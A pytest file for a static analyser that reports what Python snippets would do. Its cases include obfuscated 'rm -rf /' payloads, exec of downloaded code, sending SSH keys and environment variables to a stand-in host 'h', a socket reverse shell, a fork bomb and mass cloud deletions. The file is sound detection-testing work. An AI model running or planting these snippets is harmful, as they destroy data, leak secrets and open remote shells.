"""Python source in, what it would do out."""

from __future__ import annotations

from time import process_time

import pytest

from cases import each
from interlock.analysis.code.python import read_python
from interlock.analysis.facts import BudgetSpent, hole
from recording_report import Recorder

H, HOME = hole(), hole("HOME")


def told(source: str) -> list[tuple[str, ...]]:
    out = Recorder()
    read_python(source, out)
    return out.told


RM = ("shell", "rm -rf /")
GONE = ("delete", "/data", "recursive")
CASES: list[tuple[str, list[tuple[str, ...]]]] = [
    # deletion
    ("import os\nos.remove('a.txt')", [("delete", "a.txt")]),
    ("from os import unlink as u; u('a')", [("delete", "a")]),
    (
        "import os; os.rmdir('d'); os.removedirs('e/f')",
        [("delete", "d", "empty_only"), ("delete", "e/f", "empty_only")],
    ),
    ("import shutil as s; s.rmtree('/data')", [GONE]),
    ("import shutil; shutil.rmtree(path='/data', ignore_errors=True)", [GONE]),
    ("from shutil import *\nrmtree('/data')", [GONE]),
    ("from pathlib import Path; Path('a').unlink(missing_ok=True)", [("delete", "a")]),
    ("import pathlib; (pathlib.Path.home() / 'x').rmdir()", [("delete", f"{HOME}/x", "empty_only")]),
    ("from send2trash import send2trash; send2trash('a')", []),
    ("import shutil; d = '/da'; d += 'ta'; shutil.rmtree(d)", [GONE]),
    ("import shutil\nfor d in ['/data', '/srv']: shutil.rmtree(d)", [GONE, ("delete", "/srv", "recursive")]),
    ("import os\nif x: p = 'a'\nelse: p = 'b'\nos.remove(p)", [("delete", "a"), ("delete", "b")]),
    ("import os; os.remove(q if z else 'b')", [("delete", H), ("delete", "b")]),
    ("import os, shutil; shutil.rmtree(os.environ['BUILD'])", [("delete", hole("BUILD"), "recursive")]),
    ("import os, shutil; shutil.rmtree(os.environ['HOME'])", [("delete", HOME, "recursive")]),
    ("import os, shutil; shutil.rmtree(os.path.expanduser('~'))", [("delete", "~", "recursive")]),
    ("import os, shutil; shutil.rmtree(os.path.join(os.getenv('HOME'), 'x'))", [("delete", f"{HOME}/x", "recursive")]),
    ("import os, shutil; shutil.rmtree(os.getcwd())", [("delete", ".", "recursive")]),
    ("import os, shutil; os.chdir('/'); shutil.rmtree('etc')", [("delete", "/etc", "recursive")]),
    ("import tempfile, shutil; t = tempfile.mkdtemp(); shutil.rmtree(t)", [("delete", f"/tmp/tmp{H}", "recursive")]),
    # many at once
    ("import os, glob\nfor f in glob.glob('*.log'): os.remove(f)", [("delete", "*.log", "bulk")]),
    ("import os, glob\nlist(map(os.remove, glob.glob('*')))", [("delete", "*", "bulk")]),
    ("import os\nlist(map(os.remove, ['a'] * 99 + ['b']))", [("delete", "a"), ("delete", "b")]),
    (
        "import os\nfor f in filter(lambda n: n.endswith('.pyc'), os.listdir()): os.remove(f)",
        [("delete", "*.pyc", "bulk")],
    ),
    ("import os\nfor f in filter(None, ['a', 'b']): os.remove(f)", [("delete", "a"), ("delete", "b")]),
    ("eval('__import__(\"os\").system')('rm -rf /')", [("code", "python", '__import__("os").system'), RM]),
    ("import os\nos.system('rm -rf /backup-2024-%02d/%s' % (7, x))", [("shell", f"rm -rf /backup-2024-07/{H}")]),
    ("import pexpect; pexpect.run('rm -rf /', 30); pexpect.spawn('rm', ['a'])", [RM, ("run", "rm", "a")]),
    ("import os, functools\nos.system(functools.reduce(lambda a, b: a + b, ['rm', ' -rf', ' /']))", [RM]),
    ("import os, glob\n[os.remove(f) for f in glob.iglob('/var/**', recursive=True)]", [("delete", "/var/**", "bulk")]),
    ("import os\nfor f in os.listdir('/x'): os.remove(os.path.join('/x', f))", [("delete", "/x/*", "bulk")]),
    ("import os\nfor f in os.listdir('/x'): os.remove('/x/' + f)", [("delete", "/x/*", "bulk")]),
    (
        "import os\nfor r, ds, fs in os.walk('/x'):\n for f in fs:\n  os.remove(os.path.join(r, f))",
        [("delete", "/x/**/*", "bulk")],
    ),
    (
        (
            "import os\nfor r, ds, fs in os.walk('.'):\n for f in fs:\n"
            "  if f.endswith('.pyc'):\n   os.remove(os.path.join(r, f))"
        ),
        [("delete", "**/*.pyc", "bulk")],
    ),
    (
        "import os\nfor f in os.listdir('.'):\n if not f.endswith('.tmp'): continue\n os.remove(f)",
        [("delete", "*.tmp", "bulk")],
    ),
    ("from pathlib import Path\nfor p in Path('.').rglob('*.pyc'): p.unlink()", [("delete", "**/*.pyc", "bulk")]),
    ("from pathlib import Path\nfor p in Path('/x').iterdir(): p.unlink()", [("delete", "/x/*", "bulk")]),
    (
        "from pathlib import Path\nimport shutil\n[shutil.rmtree(p) for p in Path('.').glob('b*')]",
        [("delete", "b*", "bulk", "recursive")],
    ),
    # moving, writing, reading, modes
    ("import shutil; shutil.move('a', 'b')", [("move", "a"), ("overwrite", "b")]),
    ("import os; os.replace('a', 'b')", [("move", "a"), ("overwrite", "b")]),
    ("from pathlib import Path; Path('a').rename('b')", [("move", "a"), ("overwrite", "b")]),
    ("from pathlib import Path; Path('a').replace('b')", [("move", "a"), ("overwrite", "b")]),
    ("open('a', 'w').close()", [("truncate", "a")]),
    ("open('a', 'w')", [("truncate", "a")]),
    ("with open('a', 'w') as f: f.write('')", [("truncate", "a")]),
    ("with open('a', 'w') as f: f.write('rm -rf /')", [("write", "a")]),
    ("import json\nwith open('a', 'w') as f: json.dump({}, f)", [("write", "a")]),
    ("with open('a', 'w') as f: print('x', file=f)", [("write", "a")]),
    ("open('a', 'a').write('x')", [("append", "a")]),
    ("open('/dev/sda', 'wb').write(b'0' * 512)", [("write", "/dev/sda")]),
    ("f = open('a', 'r+'); f.truncate(0)", [("read", "a"), ("truncate", "a")]),
    ("import os; os.truncate('a', 0)", [("truncate", "a")]),
    ("import os; os.open('a', os.O_WRONLY | os.O_TRUNC)", [("truncate", "a")]),
    ("from pathlib import Path; Path('a').write_text('x')", [("write", "a")]),
    ("from pathlib import Path; Path('a').write_text('')", [("truncate", "a")]),
    ("import shutil; shutil.copy('a', 'b')", [("read", "a"), ("write", "b")]),
    ("import os; os.chmod('a', 0o777)", [("chmod", "a", "world_readable", "world_writable")]),
    ("import os; os.chmod('a', 0)", [("chmod", "a", "no_access")]),
    (
        "import os, stat; os.chmod('a', stat.S_IRWXU | stat.S_IRWXO)",
        [("chmod", "a", "world_readable", "world_writable")],
    ),
    ("import os; os.chmod('a', 0o644); os.chown('a', 0, 0)", [("chmod", "a", "world_readable"), ("chown", "a")]),
    ("print(open('a').read())", [("read", "a")]),
    # names and hiding
    ("import os; getattr(os, 'sys' + 'tem')('r' + 'm -rf /')", [RM]),
    ("__import__('os').system('rm -rf /')", [RM]),
    ("import importlib; importlib.import_module('os').system('rm -rf /')", [RM]),
    ("import 𝘰𝘴; 𝘰𝘴.system('rm -rf /')", [RM]),
    ("import os; os.system('/ fr- mr'[::-1])", [RM]),
    ("import os; os.system('%s -rf %s' % ('rm', '/'))", [RM]),
    ("import os; os.system('{} -rf {d}'.format('rm', d='/'))", [RM]),
    ("import os; c = 'rm'; os.system(f'{c} -rf /')", [RM]),
    ("import os; os.system(' '.join(['rm', '-rf', '/']))", [RM]),
    ("import os; os.system('xm -rf /'.replace('x', 'r'))", [RM]),
    ("import os; os.system(chr(114) + chr(109) + ' -rf /')", [RM]),
    ("import os; os.system(''.join(map(chr, [114, 109, 32, 45, 114, 102, 32, 47])))", [RM]),
    ("import os; os.system(''.join(chr(c) for c in [114, 109, 32, 45, 114, 102, 32, 47]))", [RM]),
    ("import os; os.system(bytes.fromhex('726d202d7266202f').decode())", [RM]),
    ("import os, base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())", [RM]),
    ("import os, codecs; os.system(codecs.decode('ez -es /', 'rot13'))", [RM]),
    ("import os; (lambda f: f('rm -rf /'))(os.system)", [RM]),
    ("import os; [os.system][0]('rm -rf /')", [RM]),
    ("import os; {'a': os.system}['a']('rm -rf /')", [RM]),
    ("import os; (s := os.system)('rm -rf /')", [RM]),
    ("import os; os.__dict__['system']('rm -rf /')", [RM]),
    ("import sys; sys.modules['os'].system('rm -rf /')", [RM]),
    ("().__class__.__base__.__subclasses__()[132].__init__.__globals__['system']('rm -rf /')", [RM]),
    ("from functools import partial; import os; partial(os.system, 'rm -rf /')()", [RM]),
    ("import threading, os; threading.Thread(target=os.system, args=('rm -rf /',)).start()", [RM]),
    ("import ctypes; ctypes.CDLL('libc.so.6').system(b'rm -rf /')", [RM]),
    ("import os\n@os.system\n@lambda _: 'rm -rf /'\ndef f(): pass", [RM]),
    ("import os\nclass P:\n def __reduce__(self): return (os.system, ('rm -rf /',))", [RM]),
    ("import os; getattr(os, name)('x')", [("unreadable", "a function chosen at run time", "payload")]),
    # functions and classes
    ("import shutil\ndef wipe(p): shutil.rmtree(p)\nwipe('/data')", [GONE]),
    ("import shutil\ndef wipe(p='/data'): shutil.rmtree(p)", [GONE]),
    ("import shutil\ndef where(): return '/data'\nshutil.rmtree(where())", [GONE]),
    (
        "import shutil\ndef wipe(p): shutil.rmtree(p)\ndef main(): wipe('/data')\nif __name__ == '__main__': main()",
        [GONE],
    ),
    ("import shutil\ndef wipe(p): shutil.rmtree(p)\ndef main(): wipe('/data')", [GONE]),
    (
        (
            "import shutil\nclass A:\n def __init__(self, p): self.p = p\n"
            " def go(self): shutil.rmtree(self.p)\nA('/data').go()"
        ),
        [GONE],
    ),
    ("import shutil\ntry: pass\nexcept OSError: shutil.rmtree('/data')", [GONE]),
    ("import shutil\nasync def f(): shutil.rmtree('/data')\nimport asyncio; asyncio.run(f())", [GONE]),
    ("def f(n): return f(n - 1)\nf(3)", []),
    # every way that a name could be set
    ("import os\ntry: p = 'a'\nexcept E: p = 'b'\nos.remove(p)", [("delete", "a"), ("delete", "b")]),
    ("import os\np = 'a'\nfor x in y: p = 'b'\nos.remove(p)", [("delete", "a"), ("delete", "b")]),
    ("import os\np = 'a'\nwhile y: p = 'b'\nos.remove(p)", [("delete", "a"), ("delete", "b")]),
    ("import os\np = 'a'\ndef f():\n global p\n p = 'b'\nf()\nos.remove(p)", [("delete", "a"), ("delete", "b")]),
    (
        "import os\ni = 0\nwhile i < 3:\n os.remove('f%d' % i); i += 1",
        [("delete", "f0"), ("delete", "f1"), ("delete", f"f{H}")],
    ),
    # programs
    ("import subprocess; subprocess.run('rm -rf /', shell=True)", [RM]),
    ("import subprocess; subprocess.run(['rm', '-rf', '/'])", [("run", "rm", "-rf", "/")]),
    ("from subprocess import check_output as c; c(['ls'])", [("run", "ls")]),
    ("import subprocess; c = ['rm']; c.append('-rf'); c += ['/']; subprocess.Popen(c)", [("run", "rm", "-rf", "/")]),
    ("import subprocess, shlex; subprocess.run(shlex.split('rm -rf /'))", [("run", "rm", "-rf", "/")]),
    ("import subprocess; subprocess.run(['rm', '-rf', 'x'], cwd='/srv')", [("shell", "cd /srv && rm -rf x")]),
    ("import subprocess; subprocess.run(['bash'], input='rm -rf /', text=True)", [("run", "bash"), RM]),
    ("import subprocess, sys; subprocess.run([sys.executable, '-m', 'pip'])", [("run", "python3", "-m", "pip")]),
    ("import os; os.popen('rm -rf /').read()", [RM]),
    ("import os; os.execvp('rm', ['rm', '-rf', '/'])", [("run", "rm", "-rf", "/")]),
    ("import os; os.execl('/bin/rm', 'rm', '-rf', '/')", [("run", "/bin/rm", "-rf", "/")]),
    ("import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')", [("run", "rm", "-rf", "/")]),
    ("import pty; pty.spawn(['rm', '-rf', '/'])", [("run", "rm", "-rf", "/")]),
    (
        "import asyncio\nasync def f(): await asyncio.create_subprocess_exec('rm', '-rf', '/')",
        [("run", "rm", "-rf", "/")],
    ),
    ("import asyncio\nasync def f(): await asyncio.create_subprocess_shell('rm -rf /')", [RM]),
    ("import commands; commands.getoutput('rm -rf /')", [RM]),
    ("import sh; sh.rm('-rf', '/')", [("run", "rm", "-rf", "/")]),
    ("from sh import rm; rm('-rf', '/')", [("run", "rm", "-rf", "/")]),
    ("from plumbum.cmd import rm; rm('-rf', '/')", [("run", "rm", "-rf", "/")]),
    ("from fabric.api import run; run('rm -rf /')", [RM]),
    ("import pexpect; pexpect.run('rm -rf /')", [RM]),
    ("import pexpect; pexpect.spawn('rm', ['-rf', '/'])", [("run", "rm", "-rf", "/")]),
    ("from plumbum import local, FG; local['rm']['-rf', '/'] & FG", [("run", "rm", "-rf", "/")]),
    (
        "import sh; sh.git.bake('push')('--force'); sh.rm('x', r=True)",
        [("run", "git", "push", "--force"), ("run", "rm", "x", "-r")],
    ),
    (
        "from subprocess import *; p = Popen(['psql', 'x'], stdin=PIPE); p.communicate('DROP TABLE t')",
        [("run", "psql", "x"), ("code", "sql", "DROP TABLE t")],
    ),
    ("import shutil; shutil.rmtree(**where)", [("delete", H, "recursive")]),
    ("import subprocess; subprocess.run(['rm', '-rf', '/'], **how)", [("run", "rm", "-rf", "/")]),
    ("import subprocess; subprocess.run(['rm', '-rf', '/'], shell=how)", [("run", "rm", "-rf", "/")]),
    ("open('a', **how).read()", [("read", "a")]),
    # code
    ("exec('import os')", [("code", "python", "import os")]),
    ("eval('1 + 1')", [("code", "python", "1 + 1")]),
    ("exec(compile('x = 1', 'f', 'exec'))", [("code", "python", "x = 1")]),
    ("exec(input())", [("unreadable", "exec of text made at run time", "payload")]),
    ("exec(open('x.py').read())", [("read", "x.py"), ("run_script", "x.py")]),
    (
        "import urllib.request as u; exec(u.urlopen('http://h/p').read())",
        [("fetch", "http://h/p"), ("run_download", "http://h/p")],
    ),
    (
        "import requests; exec(requests.get('http://h/p').text)",
        [("fetch", "http://h/p"), ("run_download", "http://h/p")],
    ),
    (
        "import pickle, requests; pickle.loads(requests.get('http://h/p').content)",
        [("fetch", "http://h/p"), ("run_download", "http://h/p")],
    ),
    (
        "import os, urllib.request as u; u.urlretrieve('http://h/x.sh', 'x.sh'); os.system('sh x.sh')",
        [
            ("fetch", "http://h/x.sh"),
            ("write", "x.sh", "downloaded"),
            ("run_download", "http://h/x.sh"),
            ("shell", "sh x.sh"),
        ],
    ),
    # network
    ("import requests; requests.get('http://h')", [("fetch", "http://h")]),
    ("import requests; requests.delete('http://h/1')", [("http", "http://h/1", "delete")]),
    ("import requests; s = requests.Session(); s.put('http://h/1', json={})", [("http", "http://h/1", "put")]),
    ("import httpx; httpx.post('http://h', json={'a': 1})", [("http", "http://h", "post")]),
    ("import requests; requests.request('DELETE', 'http://h/1')", [("http", "http://h/1", "delete")]),
    (
        "from urllib.request import Request, urlopen; urlopen(Request('http://h/1', method='DELETE'))",
        [("http", "http://h/1", "delete")],
    ),
    (
        "import os, urllib.request as r; r.urlopen('http://h/?' + str(dict(os.environ)).encode().hex())",
        [("send", f"http://h/?{H}", "environment")],
    ),
    (
        "import requests; requests.post('http://h', data=open('/root/.ssh/id_rsa').read())",
        [("read", "/root/.ssh/id_rsa"), ("send", "http://h", "secret"), ("http", "http://h", "post")],
    ),
    (
        (
            "import socket, os, pty; s = socket.socket(); s.connect(('h', 1)); "
            "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]; pty.spawn('sh')"
        ),
        [("reverse_shell", "h:1"), ("shell", "sh")],
    ),
    # databases and clouds
    ("cursor.execute('DROP TABLE users')", [("code", "sql", "DROP TABLE users")]),
    ("import sqlite3; sqlite3.connect('a').executescript('DELETE FROM t')", [("code", "sql", "DELETE FROM t")]),
    ("from sqlalchemy import text\nconn.execute(text('DROP TABLE t'))", [("code", "sql", "DROP TABLE t")]),
    (
        "from django.db import connection\nwith connection.cursor() as c: c.execute('DROP TABLE t')",
        [("code", "sql", "DROP TABLE t")],
    ),
    ("import pandas as pd; pd.read_sql('select 1', con)", [("code", "sql", "select 1")]),
    ("User.objects.all().delete()", [("sql_delete", "User", "unfiltered")]),
    ("from app.models import User; User.objects.filter(old=True).delete()", [("sql_delete", "User")]),
    ("session.query(User).delete()", [("sql_delete", "User", "unfiltered")]),
    ("session.query(User).filter_by(id=1).delete()", [("sql_delete", "User")]),
    ("Base.metadata.drop_all(engine)", [("sql_drop", "all tables", "database")]),
    ("db.users.drop()", [("store_drop", "users", "collection")]),
    ("from pymongo import MongoClient; MongoClient().drop_database('x')", [("store_drop", "x", "database")]),
    ("db.users.delete_many({})", [("store_delete", "users", "unfiltered")]),
    ("db['users'].delete_many({'a': 1})", [("store_delete", "users")]),
    ("import redis; r = redis.Redis(); r.flushall()", [("store_drop", "redis", "all")]),
    (
        "import boto3; boto3.resource('s3').Bucket('x').objects.all().delete()",
        [("run", "aws", "s3", "rm", "s3://x", "--recursive")],
    ),
    (
        "import boto3; boto3.client('s3').delete_bucket(Bucket='x')",
        [("run", "aws", "s3api", "delete-bucket", "--bucket", "x")],
    ),
    (
        "import boto3; c = boto3.client('ec2'); c.terminate_instances(InstanceIds=['i-1', 'i-2'])",
        [("run", "aws", "ec2", "terminate-instances", "--instance-ids", "i-1 i-2")],
    ),
    (
        "import boto3; boto3.Session().client('secretsmanager').get_secret_value(SecretId='x')",
        [("run", "aws", "secretsmanager", "get-secret-value", "--secret-id", "x")],
    ),
    (
        "import boto3; [b.delete() for b in boto3.resource('s3').buckets.all()]",
        [("run", "aws", "s3api", "delete-bucket")],
    ),
    (
        "import boto3; boto3.client('rds').delete_db_instance(DBInstanceIdentifier='p', SkipFinalSnapshot=True)",
        [("run", "aws", "rds", "delete-db-instance", "--db-instance-identifier", "p", "--skip-final-snapshot")],
    ),
    # a database in memory, and what reaches out of it
    ("import sqlite3\nwith sqlite3.connect(':memory:') as c: c.cursor().execute('DROP TABLE t')", []),
    (
        "import sqlalchemy as s; e = s.create_engine('sqlite://')\nwith e.begin() as c: c.execute(s.text('DROP TABLE t'))",
        [],
    ),
    (
        "import sqlite3; c = sqlite3.connect(':memory:'); c.execute(\"ATTACH 'a.db' AS a\"); c.execute('DROP TABLE a.t')",
        [("code", "sql", "ATTACH 'a.db' AS a"), ("code", "sql", "DROP TABLE a.t")],
    ),
    (
        "import sqlite3; c = sqlite3.connect(':memory:' if x else 'a.db'); c.execute('DROP TABLE t')",
        [("code", "sql", "DROP TABLE t")],
    ),
    ("import sqlite3; sqlite3.connect(':memory:').execute(y)", [("sql_execute", "")]),
    ("import sqlite3; c = sqlite3.connect('a.db'); c.execute(y)", [("sql_execute", "")]),
    (
        "import sqlite3; c = sqlite3.connect('a.db'); c.executescript(open('drop.sql').read())",
        [("read", "drop.sql"), ("sql_execute", "")],
    ),
    # processes
    ("import os; os.kill(-1, 9)", [("kill", "-1", "all")]),
    ("import os\nwhile True: os.fork()", [("fork_bomb", "")]),
    ("import os\nwhile 1:\n if os.fork(): pass", [("fork_bomb", "")]),
    ("import os\nfor _ in range(3): os.fork()", []),
    # text that does not parse at once
    ("   import os; os.system('rm -rf /')", [RM]),
    ("print 'hello'\nimport os\nos.system('rm -rf /')", [RM]),
    ("import (", [("unreadable", "Python that does not parse", "syntax")]),
    ("def (", []),  # cannot run, and names nothing that could do harm in a newer Python
    ("import os; a = '\0'", [("unreadable", "Python that does not parse", "syntax")]),
    # a line that is indented where no block begins: no Python runs the file, and one that is fed line by line runs the rest
    ("import os\n    os.remove('a')\n    (\n        b\n    )\nx = 1\n", []),
    ("import os\n    a\nos.system('rm -rf /')", [RM]),
    ("def f():\n    a\n      b\nimport os\nos.system('rm -rf /')", [RM]),
    (
        "import os\n\tos.remove('a')",
        [("unreadable", "Python that does not parse", "syntax")],
    ),  # Python 2 counts a tab as 8
    ("# coding: utf-7\nimport os\n  os.remove('a')", [("unreadable", "Python that does not parse", "syntax")]),
    (
        "  import os\n    os.remove('a')\nx",
        [("unreadable", "Python that does not parse", "syntax")],
    ),  # IPython dedents it
    ("import os\n    a\nprint 'x', os.remove(", [("unreadable", "Python that does not parse", "syntax")]),
    ("import os\n" + "    a\n" * 99, [("unreadable", "Python that does not parse", "syntax")]),
]

HARMLESS = [
    "print('rm -rf /')",
    "'''os.remove(x)'''",
    "# import os; os.remove('/')",
    "import json, sys; print(json.dumps(json.load(sys.stdin), indent=2))",
    "import re; print(re.sub('rm -rf', 'x', 'rm -rf /'))",
    "import argparse; p = argparse.ArgumentParser(); p.add_argument('--delete'); a = p.parse_args()",
    "x = [1, 2]; x.remove(1); d = {'a': 1}; d.pop('a'); s = 'DROP TABLE t'; print(s.replace('a', 'b'))",
    "import pandas as pd; df = pd.DataFrame(); df.drop(columns=['a']); df.rename(columns={'a': 'b'})",
    "import os; print(os.path.exists('/'), os.remove, os.environ.get('PATH'))",
    "import shutil, inspect; print(inspect.getsource(shutil.rmtree))",
    "executor.execute(task); command.run('x')",
    "import csv, sys\nfor row in csv.reader(sys.stdin): print(row)",
    "cache.get('http')\nqueue.delete(3)",
    "import os; os.kill(1, 0)",
    "import platform; print(platform.system())",
    "model.eval(); app.run(debug=True)",
    "import boto3; print(boto3.client('s3').list_buckets())",
    "if False:\n import os; os.remove('x')",
]


@each(("source", "expected"), CASES, ids=[source[:60] for source, _ in CASES])
def test_what_code_does_is_told(source: str, expected: list[tuple[str, ...]]) -> None:
    assert told(source) == expected


@each("source", HARMLESS, ids=[source[:60] for source in HARMLESS])
def test_words_and_data_tell_nothing(source: str) -> None:
    assert told(source) == []


HOSTILE = [
    "(" * 10_000 + ")" * 10_000,
    "x = " + "[" * 5_000,
    "a" + ".a" * 20_000,
    "a" + "()" * 5_000,
    "-" * 20_000 + "1",
    "x = " + "not " * 5_000 + "1",
    "f = " + "lambda: " * 3_000 + "1",
    "\n".join("    " * depth + "if x:" for depth in range(90)) + "\n" + "    " * 90 + "pass",
    "\n".join(" " * depth + "def f():" for depth in range(90)) + "\n" + " " * 90 + "f()",
]


@pytest.mark.parametrize("source", HOSTILE, ids=range(len(HOSTILE)))
def test_what_nests_too_deeply_is_unreadable_and_never_crashes(source: str) -> None:
    for line in told(source):
        assert line[0] == "unreadable" and line[2] in ("nesting", "syntax")


@each(
    "source",
    [
        "x = 'a' * 10 ** 12",
        "x = 10 ** 10 ** 10",
        "x = 1 << 10 ** 9",
        "x = '{:>999999999}'.format(1) + '%999999999d' % 1",
        "x = 'a'\n" + "x = x + x\n" * 60,
        "x = []\nx.append(x)\nprint(x)\nimport os\ny = [x, x]",
        "def f(n):\n f(n)\n f(n)\n f(n)\nf(1)",
        "\n".join(f"def f{n}(): f{n + 1}(); f{n + 1}(); f{n + 1}()" for n in range(30)) + "\nf0()",
        "for a in range(64):\n for b in range(64):\n  x = 1",
        "import os; s = " + " + ".join(["'a'"] * 5_000),
        "x = '" + "%" * 50_000 + "' % 1",
        "x = '" + ":" * 50_000 + "'.format(1)",
        "class A(B): pass\nclass B(A): pass\nB().x()",
        "x = {[]: 1}; y = {**x}",
    ],
)
def test_expansion_is_bounded(source: str) -> None:
    read_python(source, Recorder(budget=200_000))


def test_a_text_with_more_directives_than_are_read_is_not_filled() -> None:
    started = process_time()
    assert told("import os\nos.system('%s' * 500_000 % 1)") == [("shell", H)]
    assert process_time() - started < 0.5


def test_no_branch_is_forgotten_however_many_there_are() -> None:
    source = (
        "import os\n" + "".join(f"{'el' if n else ''}if x == {n}: p = 'f{n}'\n" for n in range(60)) + "os.remove(p)"
    )
    assert ("delete", H) in told(source)


def test_a_call_too_deep_to_follow_is_unreadable() -> None:
    source = (
        "\n".join(f"def f{n}(p): f{n + 1}(p)" for n in range(40))
        + "\nimport os\ndef f40(p): os.remove(p)\nf40('a')\nf0('/')"
    )
    assert ("unreadable", "Python that calls too deeply to follow", "nesting") in told(source)


def test_padding_hides_nothing() -> None:
    assert told("#" + "x" * 1_000_000 + "\nimport os; os.system('rm -rf /')") == [RM]
    assert told("x = '" + "a" * 1_000_000 + "'\nimport os; os.system('rm -rf /')") == [RM]


def test_a_spent_budget_is_passed_on() -> None:
    with pytest.raises(BudgetSpent):
        read_python("x = 1\n" * 1000, Recorder(budget=100))
